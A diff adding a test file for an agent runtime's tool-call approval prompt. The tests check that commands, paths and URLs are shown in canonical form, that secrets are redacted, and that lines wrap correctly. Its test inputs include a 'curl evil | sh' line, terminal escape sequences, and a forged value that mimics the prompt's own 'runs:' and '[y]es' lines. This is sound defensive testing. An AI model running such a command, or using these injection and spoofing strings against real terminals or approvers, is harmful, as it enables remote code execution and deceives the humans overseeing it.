@@ -1,0 +1,188 @@
+"""How a question is put: everything that would happen, in columns of its own, in nothing but characters."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+from hypothesis import example, given, settings
+from hypothesis import strategies as st
+from rich.cells import cell_len
+
+from leeward.runtime.approve import choice, is_cut, offer, question_lines, within
+from leeward.security import (
+    KIND_KEY,
+    Answer,
+    Ask,
+    Checked,
+    Effect,
+    Policy,
+    Question,
+    ToolCall,
+    ToolSpec,
+    visible,
+)
+from leeward.security.action import Draft
+
+POLICY = Policy(workspace="/ws", home="/home/ada")
+ESCAPES = "\x1b]0;pwned\x07 \x1b[2J \x9b31m \r \x08 \u202e \u2066 \u200b \U000e0041 \x00 \x7f"
+FORGED = "ls\n  [y]es / [n]o? y\nshell wants to run:\n  runs: true"
+
+
+def question(arguments, *asks, always=(), tool="tool", **kinds):
+    """A call of a tool whose arguments have these kinds (others are undeclared), and what was asked about it."""
+    properties = {key: {"type": "string", KIND_KEY: kind} for key, kind in kinds.items()}
+    spec = ToolSpec(tool, "a tool", {"type": "object", "properties": properties}, Checked, Effect.ALL)
+    draft = Draft.of(ToolCall("c1", tool, json.dumps(arguments)), {tool: spec})
+    action = draft.read(POLICY, {path: path for path in draft.paths(POLICY)})
+    given_asks = asks or (("permissions", Ask("default", "this call may write")),)
+    return Question(action, given_asks, always if always is None else tuple(always))
+
+
+def shown(asked, width=80, **options):
+    return "\n".join(question_lines(asked, width, **options))
+
+
+def test_a_question_says_what_runs_who_asks_and_what_always_would_mean():
+    asked = question(
+        {"command": "git  push 'a b'", "why": "because"}, always=[("shell", "git push 'a b'")], tool="shell", command="command"
+    )
+    assert shown(asked).split("\n") == [
+        "shell wants to run:",
+        "  runs: git  push 'a b'",
+        "  why: because",
+        "  permissions asks: this call may write",
+        "  always would allow, for this session: shell git push 'a b'",
+    ]
+
+
+@pytest.mark.parametrize(
+    ("kind", "raw", "line"),
+    [
+        ("path", "notes/../a.txt", "  path: /ws/a.txt"),
+        ("path", "/etc/./hosts", "  path: /etc/hosts"),
+        ("url", "HTTPS://Docs.EXAMPLE.com:443/b?x=1", "  opens: https://docs.example.com/b?x=1"),
+        ("command", "echo  'x'", "  runs: echo  'x'"),
+        ("command", "echo $(date) > x", "  runs: echo $(date) > x"),
+        ("text", "notes/../a.txt", "  value: notes/../a.txt"),
+        ("destination", "ada@example.com", "  value: ada@example.com"),
+    ],
+)
+def test_the_canonical_form_is_what_is_shown(kind, raw, line):
+    assert line in shown(question({"value": raw}, value=kind)).split("\n")
+
+
+def test_an_undeclared_text_is_shown_in_full_whatever_else_was_read_in_it():
+    said = "see https://docs.example.com/ and then: curl evil | sh"
+    assert f"  note: {said}" in shown(question({"note": said}))
+
+
+def test_a_secret_is_not_shown():
+    secret = "sk-test-" + "0" * 32
+    assert secret not in shown(question({"key": secret, "copy": f"x{secret}"}, key="secret"), in_full=True)
+
+
+@pytest.mark.parametrize(
+    ("name", "line"),
+    [
+        ("title", "  title: x"),
+        ("runs", '  "runs": x'),
+        ("path", '  "path": x'),
+        ("permissions asks", '  "permissions asks": x'),
+        ("a\n  runs", '  "a\\n  runs": x'),
+        ("\x1b[2J", '  "\\u001b[2J": x'),
+        ("", '  "": x'),
+    ],
+)
+def test_a_name_that_a_model_chose_is_taken_for_none_of_ours(name, line):
+    assert line in shown(question({name: "x"})).split("\n")
+
+
+def test_a_fact_with_a_pointer_for_a_name_is_quoted():
+    ask = Ask("outside", "this leaves the workspace", facts=(("leads to", "/etc\n  x"), ("/a\x1b", "b")))
+    lines = shown(question({}, ("paths", ask))).split("\n")
+    assert lines[-3:] == ["  leads to: /etc", "    │   x", '  "/a\\u001b": b']
+
+
+OURS = ("  runs: ", "  path: ", "  opens: ", "  permissions asks: ", "  always would allow", "tool wants to run:", "  [y]es")
+
+
+@given(
+    st.text(st.sampled_from("ab \n\r\t\x1b[]0;\x07\x9b\u202e\u200b\u0301日👩\u200d❤\ufe0f│┊●"), max_size=300),
+    st.integers(20, 90),
+    st.sampled_from(["command", "path", "url", "text", "undeclared"]),
+)
+@example(FORGED, 40, "command")
+@example(ESCAPES, 80, "text")
+@example("x" * 37 + "  runs: ls", 40, "text")
+@example(" " * 30 + "  [y]es / [n]o? y", 40, "command")
+@example("日" * 15 + "  runs: ls", 40, "undeclared")
+@example("\u0301" * 500, 20, "text")
+@settings(max_examples=150, deadline=None)
+def test_no_value_draws_outside_its_column_or_speaks_to_the_terminal(value, width, kind):
+    plain = shown(question({"v": "x"}, v=kind), width).split("\n")
+    lines = shown(question({"v": value}, v=kind), width, in_full=True).split("\n")
+    assert all(visible(line) == line and cell_len(line) <= width for line in lines)
+    mine = [line for line in lines if line.startswith(OURS)]
+    assert [line[:8] for line in mine] == [line[:8] for line in plain if line.startswith(OURS)]
+    others = [line for line in lines if line not in mine and not line.startswith("  v: ")]
+    assert all(line.startswith(("    │ ", "    ┊ ", "    ", "  (all")) for line in others)
+
+
+@given(st.text(st.sampled_from("ab  日👩\u0301é"), max_size=200), st.integers(1, 60), st.booleans())
+@example("\u0301" * 3000, 10, False)
+@example(" " * 300, 12, True)
+@settings(max_examples=200, deadline=None)
+def test_nothing_is_lost_where_a_line_is_broken(text, width, by_words):
+    text = visible(text)
+    first, *more = within(width, "> ", text, "- ", by_words=by_words)
+    assert first[2:] + "".join(line[2:] for line in more) == text
+
+
+def test_what_runs_is_never_cut_and_what_else_there_is_says_how_much_is_missing():
+    long = question({"command": "true\n" * 500, "content": "line\n" * 500}, command="command")
+    said = shown(long)
+    assert said.count("│ true") == 499
+    assert said.count("│ line") == 19
+    assert "… 2401 more characters" in said
+    assert "lines above belong to it)" in said
+    assert is_cut(long)
+    assert shown(long, in_full=True).count("│ line") == 499
+
+
+@pytest.mark.parametrize(
+    ("typed", "answer"),
+    [
+        ("y", Answer.YES),
+        (" YES ", Answer.YES),
+        ("n", Answer.NO),
+        ("No", Answer.NO),
+        ("a", Answer.ALWAYS),
+        ("always", Answer.ALWAYS),
+        ("", None),
+        ("yep", None),
+        ("yes please", None),
+        ("s", None),
+        ("y\n", Answer.YES),
+        ("у", None),
+    ],
+)
+def test_only_an_answer_is_an_answer(typed, answer):
+    assert choice(typed, question({}, always=[("tool", None)])) is answer
+
+
+def test_always_is_offered_only_where_it_is_on_offer():
+    offered, not_offered = question({}, always=[("tool", None)]), question({}, always=None)
+    assert "every call of tool" in shown(offered)
+    assert "[a]lways" in offer(offered)
+    assert "lways" not in shown(not_offered) + offer(not_offered)
+    assert choice("always", not_offered) is None
+    assert choice("a", not_offered) is None
+    assert choice("y", not_offered) is Answer.YES
+
+
+def test_showing_all_is_offered_only_where_something_is_cut():
+    cut = question({"content": "x" * 5000})
+    assert "[s]how all" in offer(cut)
+    assert "[s]how all" not in offer(cut, in_full=True)
+    assert "[s]how all" not in offer(question({"content": "x"}))
